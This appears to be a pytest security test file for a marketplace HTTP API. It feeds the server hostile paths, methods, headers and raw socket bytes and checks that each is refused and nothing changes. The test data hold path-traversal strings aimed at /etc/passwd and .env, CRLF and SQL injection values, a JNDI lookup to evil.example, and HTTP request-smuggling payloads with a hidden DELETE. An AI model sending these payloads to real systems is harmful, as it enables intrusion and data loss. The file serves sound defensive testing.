"""Hostile requests below JSON: paths, methods, headers, and bytes on a real socket that are hardly HTTP."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
import uvicorn
from tests.api.envelope import check_refusal
from tests.api.marketplace import Api, Server
from tests.api.world import World, unchanged
from tests.http.driver import ask

from entrepot.app.registry import registry
from entrepot.http.protocol import uvicorn_options
from entrepot.http.routing import mounted

OPERATIONS = registry().operations


@pytest.fixture(scope="module")
async def api(server: Server) -> AsyncIterator[Api]:
    """One for all: nothing that is asked here may change what it has."""
    async with Api.create(server) as made:
        await World.create(made)
        yield made


@pytest.fixture(scope="module")
def token(api: Api) -> str:
    return api.token(api.admin, roles=["FullAccess"])


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("/v1/../v1/buyers", "Route"),
        ("/v1/buyers/..", "Buyer"),
        ("/v1/buyers/../suppliers", "Route"),
        ("/v1/buyers/%2e%2e/users", "Buyer"),
        ("/v1/buyers/%2e%2e%2fsuppliers", "Buyer"),
        ("/v1/buyers/..%5c..%5cetc", "Buyer"),
        ("/v1/buyers/%00", "Route"),
        ("/v1/buyers/known%00", "Route"),
        ("/v1/buyers/%FF", "Route"),
        ("/v1/buyers/%C0%AE", "Route"),
        ("/v1/buyers/%ED%A0%80", "Route"),
        ("/v1/buyers/%ud800", "Buyer"),
        ("/v1/buyers/%", "Buyer"),
        ("/v1/buyers/%zz", "Buyer"),
        ("/v1/buyers/known%20", "Buyer"),
        ("/v1/buyers/known%0d%0aSet-Cookie:%20a=b", "Buyer"),
        ("/v1/buyers/known;a=b", "Buyer"),
        ("/v1/buyers/{buyerID}", "Buyer"),
        ("/v1/buyers/*", "Buyer"),
        ("/v1/buyers/%C3%A9", "Buyer"),
        ("/v1/buyers/%E2%80%AE", "Buyer"),
        ("/v1/buyers/" + "a" * 10_240, "Buyer"),
        ("/v1/buyers/" + "%61" * 10_240, "Buyer"),
        ("/v1/" + "a/" * 5_000, "Route"),
        ("/v1/buyers//users", "Route"),
        ("//v1/buyers", "Route"),
        ("/v1//buyers", "Route"),
        ("/v1/buyers//", "Route"),
        ("/v1%2fbuyers", "Route"),
        ("/v1/%2e/buyers", "Route"),
        ("/v1/.", "Route"),
        ("/v2/buyers", "Route"),
        ("/buyers", "Route"),
        ("/v1/oauth/token", "Route"),
        ("/.env", "Route"),
        ("/.git/config", "Route"),
        ("/docs/../../etc/passwd", "Route"),
        ("/docs/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "Route"),
        ("/v1/buyers/known/users/" + "x" * 101, "User"),
    ],
)
async def test_paths(path: str, found: str, token: str, api: Api) -> None:
    """404 with what was not found, for every method that the route has, and nothing is written (ERR-2, CONV-8)."""
    methods = (
        ("GET", "HEAD", "DELETE")
        if found in {"Buyer", "User"} and "/users" not in path[-6:]
        else ("GET", "HEAD")
    )
    async with unchanged(api):
        for verb in methods:
            answer = await ask(api.server.app, verb, path, token=token)
            assert answer.status == 404, (verb, answer.body)
            if verb == "HEAD":
                assert answer.body == b""
                continue
            (entry,) = check_refusal(answer.status, answer.headers, answer.body)
            assert entry["Data"]["ObjectType"] == found
            assert "\r" not in json.dumps(answer.headers)


PATHS = sorted({operation.path for operation in OPERATIONS.values()})


@pytest.mark.parametrize(
    "verb", ["TRACE", "TRACK", "CONNECT", "PROPFIND", "get", "G\u00cbT", "X" * 1000, "OPTIONS", "HEAD"]
)
async def test_methods(verb: str, token: str, api: Api) -> None:
    """405 with Allow for what a path does not have, in any case but the declared; OPTIONS lists and never acts."""
    routes = [mounted(path).replace("{", "").replace("}", "") for path in PATHS]
    if verb == "HEAD":
        # For the first one who listens, a marketplace begins to write down what happens.
        await ask(api.server.app, verb, "/entrepot/v1/events", token=token)
    async with unchanged(api):
        for path in [*routes, "/", "/healthz", "/readyz", "/metrics", "/docs", "/v1/openapi/v3"]:
            answer = await ask(api.server.app, verb, path.partition("?")[0], token=token)
            if verb == "OPTIONS":
                assert (answer.status, answer.body) == (204, b"")
            elif verb == "HEAD":
                assert answer.body == b""
                assert answer.status < 500
            else:
                (entry,) = check_refusal(answer.status, answer.headers, answer.body)
                assert (answer.status, entry["ErrorCode"]) == (405, "MethodNotAllowed"), path
                assert token not in answer.body.decode()


@pytest.mark.parametrize(
    "header",
    [
        ("X-HTTP-Method-Override", "DELETE"),
        ("X-HTTP-Method", "DELETE"),
        ("X-Method-Override", "DELETE"),
        ("Accept", "application/xml"),
        ("Accept", "text/html;q=0"),
        ("Accept", b"\xff"),
        ("Accept-Charset", "utf-16"),
        ("Accept-Encoding", "br;q=1, *;q=0"),
        ("Accept-Encoding", "gzip;q=nonsense,;;,"),
        ("Accept-Language", "'; DROP TABLE users"),
        ("Content-Type", "a" * 10_000),
        ("Content-Encoding", "gzip"),
        ("Cookie", "a=" + "b" * 10_000),
        ("Range", "bytes=0-1"),
        ("If-Match", '"nope"'),
        ("If-None-Match", "*"),
        ("If-Modified-Since", "yesterday"),
        ("Expect", "nonsense"),
        ("Host", "evil.example/../"),
        ("X-Forwarded-Host", "evil.example"),
        ("X-Forwarded-For", "' OR 1=1"),
        ("Forwarded", "host=evil.example"),
        ("X-Original-URL", "/v1/suppliers"),
        ("X-Request-ID", "a\r\nSet-Cookie: b"),
        ("X-Request-ID", "x" * 10_000),
        ("X-Request-ID", "${jndi:ldap://evil.example}"),
        ("Origin", "null"),
        ("Content-Length", "99999999999999999999"),
    ],
)
async def test_headers_change_nothing(header: tuple[str, str | bytes], token: str, api: Api) -> None:
    """No method override, negotiation, condition or address of the caller's making; reads stay reads."""
    plain = await ask(api.server.app, "GET", "/v1/buyers/known", token=token)
    async with unchanged(api):
        answer = await ask(api.server.app, "GET", "/v1/buyers/known", token=token, headers=[header])
        assert (answer.status, answer.body) == (200, plain.body)
        dropped = {"x-request-id"}
        assert {n: v for n, v in answer.headers.items() if n not in dropped} == {
            n: v for n, v in plain.headers.items() if n not in dropped
        }
        assert len(answer.headers["x-request-id"]) <= 128
    made = await ask(
        api.server.app, "POST", "/v1/buyers", token=token, headers=[header], body=b'{"Name":"x"}'
    )
    if header[0] in {"Content-Type", "Content-Length"}:
        check_refusal(made.status, made.headers, made.body)
    else:
        assert made.status == 201
        assert made.headers["location"].startswith(f"{api.server.settings.base_url}/v1/buyers/")


# --- over a socket ------------------------------------------------------------------------------------------------


@pytest.fixture
async def port(server: Server) -> AsyncIterator[int]:
    """The tests' own server behind a real socket."""
    options: dict[str, Any] = {**uvicorn_options(), "loop": "none", "lifespan": "off"}
    listener = uvicorn.Server(uvicorn.Config(server.app, host="127.0.0.1", port=0, **options))
    task = asyncio.create_task(listener._serve())
    while not listener.started:
        await asyncio.sleep(0.01)
    yield listener.servers[0].sockets[0].getsockname()[1]
    listener.should_exit = True
    await task


async def talk(port: int, sent: bytes) -> bytes:
    """Everything that comes back until the server closes; the client stops sending after its bytes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(sent)
        await writer.drain()
        writer.write_eof()
        return await asyncio.wait_for(reader.read(), 30)
    except ConnectionError:
        return b""
    finally:
        writer.close()


def answers(received: bytes) -> list[tuple[int, dict[str, str], bytes]]:
    """The responses in what came back."""
    found = []
    while received:
        head, _, rest = received.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        headers = {line.partition(": ")[0].lower(): line.partition(": ")[2] for line in lines[1:]}
        length = int(headers.get("content-length", "0"))
        found.append((int(lines[0].split()[1]), headers, rest[:length]))
        received = rest[length:]
    return found


CREATE = b"POST /v1/buyers HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
SMUGGLED = b"DELETE /v1/buyers/known HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n\r\n"
RAW: dict[str, bytes] = {
    "two lengths": CREATE + b"Content-Length: 2\r\nContent-Length: 12\r\n\r\n{}" + SMUGGLED,
    "length list": CREATE + b"Content-Length: 2, 2\r\n\r\n{}",
    "negative length": CREATE + b"Content-Length: -1\r\n\r\n{}",
    "signed length": CREATE + b"Content-Length: +2\r\n\r\n{}",
    "hexadecimal length": CREATE + b"Content-Length: 0x2\r\n\r\n{}",
    "length of no ASCII": CREATE + b"Content-Length: \xd9\xa2\r\n\r\n{}",
    "length beyond 64 bits": CREATE + b"Content-Length: 184467440737095516160\r\n\r\n{}",
    "length and chunks": CREATE + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "chunks and length": CREATE + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + SMUGGLED,
    "coding of another kind": CREATE + b"Transfer-Encoding: gzip\r\n\r\n{}",
    "chunked is not last": CREATE + b"Transfer-Encoding: chunked, gzip\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "chunked misspelled": CREATE + b"Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "chunk size of no number": CREATE + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
    "negative chunk": CREATE + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n{}\r\n0\r\n\r\n",
    "endless chunk size": CREATE + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 100 + b"\r\n{}",
    "chunk longer than said": CREATE + b"Transfer-Encoding: chunked\r\n\r\n1\r\n{}\r\n0\r\n\r\n",
    "blank before the colon": CREATE + b"Content-Length : 2\r\n\r\n{}",
    "folded header": CREATE + b"X: a\r\n b\r\nContent-Length: 2\r\n\r\n{" + b"\x00",
    "NUL in a header": CREATE + b"X: a\0b\r\nContent-Length: 2\r\n\r\n{}",
    "bare line feeds in a header": CREATE + b"X: a\rContent-Length: 2\r\n\r\n{}",
    "no colon": CREATE + b"nonsense\r\n\r\n",
    "no header name": CREATE + b": x\r\n\r\n",
    "no version": b"GET /v1/me\r\n\r\n",
    "HTTP/2 on plain lines": b"GET /healthz HTTP/2.0\r\nHost: x\r\n\r\n",
    "HTTP/0.9 with headers": b"GET /healthz HTTP/0.9\r\nHost: x\r\n\r\n",
    "future version": b"GET /v1/me HTTP/3.0\r\nHost: x\r\n\r\n",
    "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64,
    "NULs": b"\x00" * 1000,
    "blank lines": b"\r\n" * 1000 + b"NONSENSE\r\n\r\n",
    "raw bytes in the path": b"GET /v1/buyers/\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
    "blank in the path": b"POST /v1/buyers/a b HTTP/1.1\r\nHost: x\r\n\r\n",
    "no path": b"GET  HTTP/1.1\r\nHost: x\r\n\r\n",
    "asterisk": b"GET * HTTP/1.1\r\nHost: x\r\n\r\n",
    "address of another host": b"GET http://evil.example/v1/me HTTP/1.1\r\nHost: x\r\n\r\n",
    "connect": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "10,000 headers": b"GET /v1/me HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X%d: y\r\n" % n for n in range(10_000)) + b"\r\n",
    "one long header": b"GET /v1/me HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 1_000_000 + b"\r\n\r\n",
    "100 KB token": b"GET /v1/me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + b"A" * 100_000 + b"\r\n\r\n",
    "header name of bytes": b"GET /v1/me HTTP/1.1\r\nHost: x\r\n\xff\xfe: y\r\n\r\n",
    "body cut off": CREATE + b'Content-Length: 100\r\n\r\n{"Name":"cut"}',
    "chunks cut off": CREATE + b'Transfer-Encoding: chunked\r\n\r\ne\r\n{"Name":"cut"}\r\n',
    "no body at all": CREATE + b"Content-Length: 100\r\n\r\n",
    "head cut off": CREATE,
}  # fmt: skip


@pytest.mark.parametrize("kind", RAW)
async def test_bytes_on_a_socket(kind: str, port: int, token: str, api: Api) -> None:
    """A 4xx in the envelope, or the connection is closed; nothing is created, and nothing smuggled is carried out."""
    async with unchanged(api):
        received = await talk(port, RAW[kind].replace(b"{token}", token.encode()))
    for status, headers, body in answers(received):
        check_refusal(status, headers, body)
    after = await talk(port, b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert [status for status, _, _ in answers(after)] == [200]
